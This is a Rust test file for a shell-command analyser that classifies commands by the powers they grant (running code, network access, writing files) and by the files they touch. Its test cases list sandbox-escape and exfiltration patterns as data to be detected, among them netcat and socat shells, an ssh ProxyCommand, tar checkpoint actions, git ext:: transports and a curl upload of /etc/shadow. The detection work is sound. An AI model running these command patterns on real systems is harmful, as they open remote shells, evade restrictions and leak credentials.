use super::*;
use crate::shell::parser::parse;

/// The words of the line's outer command (substitutions come first).
fn words(line: &str) -> Vec<Word> {
    parse(line)
        .commands
        .into_iter()
        .last()
        .map(|c| c.words)
        .unwrap_or_default()
}

/// What the table finds for a command line of one command.
fn found(line: &str) -> Found {
    let w = words(line);
    let name = w[0].text.clone();
    let base = name.rsplit('/').next().unwrap_or(&name).to_string();
    match entry(&base) {
        Some(e) => examine(&base, e, &w[1..]),
        None => Found::default(),
    }
}

fn caps(line: &str) -> Vec<Capability> {
    let mut c: Vec<_> = found(line).powers.iter().map(|p| p.capability).collect();
    c.sort();
    c.dedup();
    c
}

#[test]
fn options_are_read_like_the_commands_do() {
    let syn = Syntax {
        short_values: "ef",
        short_optional: "i",
        long_values: &["--expression"],
        long_flags: &[],
        options_first: false,
        bundled_first: false,
    };
    let w = words("sed -ne p -i.bak --expr=q -es/a/b/ --expression x file");
    let a = Args::parse(&w[1..], syn);
    let names: Vec<_> = a
        .items
        .iter()
        .map(|it| match it {
            Item::Opt { name, value, .. } => format!("{name}={}", value.map_or("", |v| v.0)),
            Item::Operand { text, .. } => text.to_string(),
        })
        .collect();
    assert_eq!(
        names,
        [
            "-n=",
            "-e=p",
            "-i=.bak",
            "--expr=q",
            "-e=s/a/b/",
            "--expression=x",
            "file"
        ]
    );
    assert!(a.has(&["--expression"]));
    // Options first: later words belong to the script.
    let py = Syntax {
        short_values: "cmWX",
        options_first: true,
        ..PLAIN
    };
    let w = words("python3 -W ignore script.py -c x");
    let a = Args::parse(&w[1..], py);
    assert!(!a.has(&["-c"]));
    assert_eq!(a.operands().count(), 3);
    // An old-style tar bundle takes values in turn.
    let tar = Syntax {
        short_values: "fC",
        bundled_first: true,
        ..PLAIN
    };
    let w = words("tar xfC a.tar dir -I prog");
    let a = Args::parse(&w[1..], tar);
    assert_eq!(a.opt(&["-f"])[0].0.map(|v| v.0), Some("a.tar"));
    assert_eq!(a.opt(&["-C"])[0].0.map(|v| v.0), Some("dir"));
    assert!(a.has(&["-x"]) && a.has(&["-I"]));
}

#[test]
fn capabilities_from_the_table() {
    use Capability::{Exec, Fetch, Write};
    let cases: &[(&str, &[Capability])] = &[
        ("awk '{print $1}' f", &[]),
        ("awk 'BEGIN{system(\"id\")}'", &[Exec]),
        ("awk -f prog.awk f", &[Exec]),
        ("awk '{print > \"out\"}' f", &[Write]),
        ("gawk --sandbox 'BEGIN{system(\"id\")}'", &[]),
        ("awk --sandbox 'BEGIN{system(\"id\")}'", &[Exec]),
        ("sed -n '1e id' f", &[Exec]),
        ("sed 's/x/y/w /tmp/out' f", &[Write]),
        ("sed --sandbox '1e id' f", &[]),
        ("sed -i s/a/b/ f", &[]),
        ("sed -f script.sed f", &[Exec]),
        ("sed -i '' 's/x/y/w out' f", &[Write]),
        ("sed -l 's/x/y/w out' f", &[Write]),
        ("sed -l 5 p f", &[]),
        ("find . -name x", &[]),
        ("find . -exec id ;", &[Exec]),
        ("find . -delete", &[Write]),
        ("find . -executable", &[]),
        ("python3 script.py -c x", &[]),
        ("python3 -c 'print(1)'", &[Exec]),
        ("python3 -Bc 'print(1)'", &[Exec]),
        ("python3 -W ignore -c 'print(1)'", &[Exec]),
        ("python3 -m pytest", &[]),
        ("python3", &[Exec]),
        ("python3 -", &[Exec]),
        ("python3.12 -c x", &[Exec]),
        ("python3 --version", &[]),
        ("python3 <(echo 1)", &[Exec]),
        ("perl <(echo 1) x", &[Exec]),
        ("node app.js", &[]),
        ("node -e 1", &[Exec]),
        ("node --title x -e 1", &[Exec]),
        ("node --unknown-flag -e 1", &[Exec]),
        ("perl -ne 'print' f", &[Exec]),
        ("perl script.pl", &[]),
        ("perl -Mstrict script.pl", &[]),
        ("perl '-Mstrict;system(1)' script.pl", &[Exec]),
        ("ruby -e 1", &[Exec]),
        ("php -r 1", &[Exec]),
        ("lua -e 1", &[Exec]),
        ("Rscript -e 1", &[Exec]),
        ("make", &[Exec]),
        ("make --version", &[]),
        ("ninja -C build", &[Exec]),
        ("cmake --build build", &[Exec]),
        ("vim -c '!id'", &[Exec]),
        ("vim +10 f", &[]),
        ("vim '+!id' f", &[Exec]),
        ("vim f", &[]),
        ("less f", &[]),
        ("less +G f", &[]),
        ("less + f", &[]),
        ("less +120 f", &[]),
        ("less ++/pattern f", &[]),
        ("less +?pattern f", &[]),
        ("less '+!id' f", &[Exec]),
        ("less -k keys f", &[Exec]),
        ("man ls", &[]),
        ("man -P 'sh -c id' ls", &[Exec]),
        ("man --pag=id ls", &[Exec]),
        ("tar -tf a.tar", &[]),
        ("tar -xf a.tar", &[Write]),
        ("tar xzf a.tar", &[Write]),
        ("tar -cf a.tar --to-c=id x", &[Exec]),
        (
            "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id x",
            &[Exec],
        ),
        ("tar -cf a.tar --checkpoint=1 x", &[]),
        ("tar -I 'sh -c id' -cf a.tar x", &[Exec]),
        ("tar -cf host:a.tar x", &[Fetch]),
        ("tar --use-compress-prog=id -cf a.tar x", &[Exec]),
        ("tar --rmt-command=id -cf a.tar x", &[Exec]),
        ("zip -TT 'sh -c id' a.zip x", &[Exec]),
        ("zip a.zip x", &[]),
        ("unzip -l a.zip", &[]),
        ("rsync -a src/ dst/", &[]),
        ("rsync -a src/ host:dst/", &[Fetch]),
        ("rsync -a src/ rsync://host/mod", &[Fetch]),
        ("rsync -a src/ host::mod", &[Fetch]),
        // A colon after a slash, or first, is part of a local name.
        ("rsync -a src/ dir/a:b", &[]),
        ("rsync -a src/ :dst", &[]),
        ("ssh -o Port=22 host", &[Fetch]),
        ("ssh -o 'LocalCommand id' host", &[Exec, Fetch]),
        ("rsync -e 'sh -c id' a b", &[Exec]),
        ("ssh host", &[Fetch]),
        ("ssh -o ProxyCommand='sh -c id' x", &[Exec, Fetch]),
        ("ssh -oProxyCommand=id x", &[Exec, Fetch]),
        ("scp -S ./evil a host:b", &[Exec, Fetch]),
        ("curl https://example.com", &[Fetch]),
        ("curl -O https://example.com/x", &[Write, Fetch]),
        ("curl --version", &[]),
        ("wget https://example.com/x", &[Write, Fetch]),
        ("wget -O - https://example.com/x", &[Fetch]),
        ("nc -e /bin/sh host 1", &[Exec, Fetch]),
        ("ncat --sh-exec id host 1", &[Exec, Fetch]),
        ("socat - EXEC:id", &[Exec, Fetch]),
        ("socat - tcp:host:80", &[Fetch]),
        ("crontab -l", &[]),
        ("crontab f", &[Exec]),
        ("at now", &[Exec]),
        ("systemd-run id", &[Exec]),
        ("xargs rm", &[Exec]),
        ("sort -o out x", &[]),
        ("sort --compress-program=id x", &[Exec]),
        ("gdb -ex r ./a", &[Exec]),
        ("ed f", &[Exec]),
        ("git status", &[]),
        ("git log --oneline", &[]),
        ("git -c core.pager='sh -c id' log", &[Exec]),
        ("git --config-env=core.pager=X log", &[Exec]),
        ("git -C sub status", &[]),
        ("git config user.name x", &[Exec]),
        ("git config --get user.name", &[]),
        ("git config user.name", &[]),
        ("git config --list", &[]),
        ("git config --unset x.y", &[Exec]),
        ("git submodule foreach id", &[Exec]),
        ("git bisect run id", &[Exec]),
        ("git rebase -x id main", &[Exec]),
        ("git rebase --exec=id main", &[Exec]),
        ("git rebase main", &[]),
        ("git filter-branch --tree-filter id", &[Exec]),
        ("git difftool", &[Exec]),
        ("git diff --ext-diff", &[Exec]),
        ("git diff", &[]),
        ("git fetch --upload-pack='id' origin", &[Exec, Fetch]),
        ("git push --receive-pack=id origin", &[Exec, Fetch]),
        ("git clone -u id https://x/y", &[Exec, Fetch]),
        ("git ls-remote --upload-pack=id x", &[Exec, Fetch]),
        ("git pull", &[Fetch]),
        ("git clone 'ext::sh -c id' x", &[Exec, Fetch]),
        ("git apply x.patch", &[Write]),
        ("git apply --check x.patch", &[]),
        ("git help -w log", &[Exec]),
        ("git grep -O id x", &[Exec]),
        ("git init --template=t", &[Exec]),
        ("git send-email --smtp-server=./x p", &[Exec, Fetch]),
        ("taskset 1 rm -rf x", &[Exec]),
        ("vim.basic -c '!id'", &[Exec]),
    ];
    let mut wrong = Vec::new();
    for (line, want) in cases {
        let got = caps(line);
        if got != *want {
            wrong.push(format!("{line}: got {got:?}, want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn written_and_read_files_are_paths() {
    let paths = |line: &str| -> Vec<(String, PathRole)> {
        found(line)
            .paths
            .into_iter()
            .map(|(p, r, _)| (p, r))
            .collect()
    };
    use PathRole::{Read, Write};
    assert_eq!(
        paths("sort -o .git/config x"),
        [(".git/config".into(), Write)]
    );
    assert_eq!(
        paths("sort --output=Makefile x"),
        [("Makefile".into(), Write)]
    );
    assert_eq!(
        paths("dd if=a of=Makefile"),
        [("Makefile".into(), Write), ("a".into(), Read)]
    );
    assert_eq!(paths("find . -fprint out"), [("out".into(), Write)]);
    assert_eq!(paths("awk '{print > \"f\"}' x"), [("f".into(), Write)]);
    assert_eq!(paths("awk '{print > \"/dev/stderr\"}' x"), []);
    assert_eq!(paths("sed -ni p Makefile"), [("Makefile".into(), Write)]);
    assert_eq!(paths("sed 'w .envrc' x"), [(".envrc".into(), Write)]);
    assert_eq!(paths("curl -o out https://x"), [("out".into(), Write)]);
    assert_eq!(
        paths("curl -d @/etc/shadow -F 'f=@key;type=x' https://x"),
        [("/etc/shadow".into(), Read), ("key".into(), Read)]
    );
    assert_eq!(
        paths("git diff --output=Makefile"),
        [("Makefile".into(), Write)]
    );
}

#[test]
fn messages_name_the_option() {
    let f = found("find . -execdir id ;");
    assert_eq!(
        f.powers[0].what,
        "runs a command on every match (`-execdir`)"
    );
    assert_eq!(f.powers[0].word, 2);
    let f = found("tar -cf a --to-c=id x");
    assert_eq!(
        f.powers[0].what,
        "runs a command for every file it extracts (`--to-command`)"
    );
    let f = found("python3 -c 1");
    assert_eq!(f.powers[0].what, "runs inline code (`-c`)");
    assert_eq!(f.powers[0].word, 1);
    let f = found("make");
    assert_eq!(f.powers[0].word, 0);
}
